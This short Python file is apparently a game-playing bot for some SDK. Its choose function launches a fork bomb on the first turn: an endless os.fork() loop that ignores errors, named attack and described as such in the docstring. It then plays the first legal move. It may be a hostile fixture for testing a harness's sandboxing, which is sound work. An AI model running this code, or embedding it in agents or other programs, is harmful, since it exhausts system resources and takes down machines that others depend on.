"""Forks without end, and every child forks too."""

import os

from sdk import run


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def choose(observation, legal, context):
    if context.turn == 1:
        attack()
    return legal[0]["id"]


run(choose)
